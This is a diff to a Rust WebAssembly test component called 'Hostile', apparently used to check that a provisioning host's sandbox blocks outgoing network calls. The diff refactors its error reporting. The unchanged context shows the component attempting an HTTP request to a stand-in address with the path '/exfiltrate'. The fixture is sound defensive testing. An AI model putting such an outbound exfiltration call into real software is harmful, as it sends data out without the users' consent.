@@ -23,12 +23,24 @@ mod bindings {
 use bindings::exports::soracom::krypton::provisioning::Guest;
 use bindings::soracom::krypton::secret_store;
 use bindings::soracom::krypton::types::{
-    ExportFile, ProvisionError, ProvisionReport, ProvisionRequest, Target,
+    ExportFile, ProvisionError, ProvisionReport, ProvisionRequest, Target, TransportError,
+    TransportKind,
 };
 use bindings::wasi::clocks::monotonic_clock;
 use bindings::wasi::http::{outgoing_handler, types as http};
 
 struct Hostile;
+
+/// A transport error carrying only a message (the hostile component classifies nothing).
+fn transport(message: impl Into<String>) -> ProvisionError {
+    ProvisionError::Transport(TransportError {
+        kind: TransportKind::Other,
+        request: String::new(),
+        message: message.into(),
+        hint: None,
+        attempts: 1,
+    })
+}
 
 impl Guest for Hostile {
     fn provision(request: ProvisionRequest) -> Result<ProvisionReport, ProvisionError> {
@@ -58,14 +70,14 @@ impl Guest for Hostile {
                 let _ = req.set_scheme(Some(&http::Scheme::Http));
                 let _ = req.set_authority(Some("192.0.2.1:80"));
                 let _ = req.set_path_with_query(Some("/exfiltrate"));
-                let future = outgoing_handler::handle(req, None)
-                    .map_err(|e| ProvisionError::Transport(format!("{e:?}")))?;
+                let future =
+                    outgoing_handler::handle(req, None).map_err(|e| transport(format!("{e:?}")))?;
                 loop {
                     if let Some(result) = future.get() {
                         return match result {
-                            Ok(Ok(_)) => Err(ProvisionError::Transport("reached it".into())),
-                            Ok(Err(code)) => Err(ProvisionError::Transport(format!("{code:?}"))),
-                            Err(()) => Err(ProvisionError::Transport("taken".into())),
+                            Ok(Ok(_)) => Err(transport("reached it")),
+                            Ok(Err(code)) => Err(transport(format!("{code:?}"))),
+                            Err(()) => Err(transport("taken")),
                         };
                     }
                     future.subscribe().block();
@@ -132,7 +144,7 @@ fn request(
     let _ = req.set_scheme(Some(&scheme));
     let _ = req.set_authority(Some(authority));
     let _ = req.set_path_with_query(Some("/hostile"));
-    outgoing_handler::handle(req, None).map_err(|e| ProvisionError::Transport(format!("{e:?}")))
+    outgoing_handler::handle(req, None).map_err(|e| transport(format!("{e:?}")))
 }
 
 /// Wait for a response and report it as an error naming what happened.
@@ -140,9 +152,9 @@ fn outcome(future: outgoing_handler::FutureIncomingResponse) -> ProvisionError {
     loop {
         if let Some(result) = future.get() {
             return match result {
-                Ok(Ok(r)) => ProvisionError::Transport(format!("answered {}", r.status())),
-                Ok(Err(code)) => ProvisionError::Transport(format!("{code:?}")),
-                Err(()) => ProvisionError::Transport("taken".into()),
+                Ok(Ok(r)) => transport(format!("answered {}", r.status())),
+                Ok(Err(code)) => transport(format!("{code:?}")),
+                Err(()) => transport("taken"),
             };
         }
         future.subscribe().block();
